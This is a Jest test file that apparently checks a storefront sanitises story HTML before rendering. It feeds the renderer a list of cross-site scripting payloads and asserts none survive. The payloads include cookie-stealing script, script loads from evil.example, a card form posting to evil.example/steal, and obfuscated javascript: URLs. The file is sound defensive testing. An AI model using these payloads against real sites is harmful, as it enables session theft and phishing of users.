/** @jest-environment node */
// Security requirement 12 (docs/security.md): a story's HTML is sanitised before it is rendered.
// The whole path a story takes: the API answers a post full of attacks, the storefront reads it
// (lib/upstream/stories.ts, where it is cleaned once, before any cache), and the story page's
// article renders it. Nothing of the attacks is left in the markup a reader gets.
process.env.UPSTREAM_API_URL = 'http://upstream.test';

import nock from 'nock';
import { renderToStaticMarkup } from 'react-dom/server';
import { StoryArticle } from '@/components/stories/story-article';
import { fetchStory } from '@/lib/upstream/stories';

const API = 'http://upstream.test';

const ATTACKS = [
  '<p>Weavers in Kitui start early.</p>',
  '<script>window.stolen = document.cookie</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<img src="/media/stories/1.png" alt="Kiondo" onerror="alert(1)">',
  '<p onclick="alert(2)" onmouseover="alert(3)" style="background:url(javascript:alert(4))">Hover me</p>',
  '<a href="javascript:alert(5)">a link</a>',
  '<a href="JaVaScRiPt:alert(6)">another</a>',
  '<a href="java&#x09;script:alert(7)">a third</a>',
  '<a href="data:text/html,<script>alert(8)</script>">a fourth</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="card"><button formaction="javascript:alert(10)">Pay</button></form>',
  '<svg onload="alert(11)"><script>alert(12)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
].join('');

const post = {
  post_id: 12,
  slug: 'meet-mwende-musyoka',
  title: 'Meet Mwende Musyoka',
  excerpt: 'In Kitui…',
  meta_title: 'Meet Mwende Musyoka',
  meta_description: 'In Kitui, Mwende Musyoka starts work early.',
  featured_image: 'http://127.0.0.1:4000/media/stories/1.png',
  alt_text: 'A kiondo basket',
  category_id: 1,
  category_name: 'Artisan Stories',
  created_at: '2026-01-15T09:00:00.000Z',
  author_email: 'admin@demo.crafts.ke',
  author_name: 'Njeri Kamau',
  content: ATTACKS,
  updated_at: '2026-01-16T09:00:00.000Z',
};

beforeAll(() => nock.disableNetConnect());
afterAll(() => nock.enableNetConnect());

describe('requirement 12: story HTML is sanitised before it is rendered', () => {
  it('renders the story’s text and none of the scripts, handlers, javascript: URLs, frames, styles or forms', async () => {
    nock(API).get('/blogs/12').reply(200, { status: 'success', message: 'OK', data: { post } });
    const story = await fetchStory(12);
    if (!story.ok) throw new Error('the story did not load');
    const html = renderToStaticMarkup(<StoryArticle story={story.data} categorySlug="artisan-stories" />);
    const body = html.slice(html.indexOf('<h1'));

    expect(body).toContain('Weavers in Kitui start early.');
    expect(body).toContain('Hover me');
    expect(body).not.toMatch(/<\s*script/i);
    expect(body).not.toMatch(/\son[a-z]+\s*=/i);
    expect(body).not.toMatch(/javascript\s*:|java&#x09;script|data:text\/html/i);
    expect(body).not.toMatch(/<\s*(iframe|style|link|object|embed|form|input|button|svg|math|meta|base)\b/i);
    expect(body).not.toMatch(/\sstyle\s*=/i);
    expect(body).not.toContain('evil.example');
    expect(body).not.toMatch(/srcdoc|formaction/i);
  });
});
